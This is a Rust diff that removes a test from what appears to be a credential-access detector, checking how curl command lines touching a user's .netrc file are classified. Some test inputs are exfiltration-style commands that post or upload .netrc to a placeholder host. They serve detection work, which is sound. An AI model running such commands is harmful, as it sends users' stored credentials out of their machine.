@@ -60,24 +60,3 @@ fn the_shipped_ones_say_what_they_are() {
         !variables.iter().any(|name| name.contains("TOKEN") || name.contains("SECRET") || name.contains("API_KEY"))
     );
 }
-
-#[test]
-fn curl_shows_only_what_it_logs_in_with() {
-    let actors = shipped_catalogue().actors();
-    let curl = |line: &str| {
-        let process = crate::detect::fixtures::process(1, 0, "/usr/bin/curl");
-        actors.viewer(&crate::detect::fixtures::with_args(process, line))
-    };
-    let netrc = Some(Viewer::Only(vec!["netrc".to_owned()]));
-    for (line, is) in [
-        ("curl --netrc https://example.invalid/", netrc.clone()),
-        ("curl -s -n https://example.invalid/", netrc),
-        ("curl https://example.invalid/", None),
-        ("curl -n -d @/home/ann/.netrc https://example.invalid/", None),
-        ("curl -n -T /home/ann/.netrc https://example.invalid/", None),
-        ("curl -n file:///home/ann/.netrc", None),
-        ("curl -n --config x", None),
-    ] {
-        assert_eq!(curl(line), is, "{line}");
-    }
-}
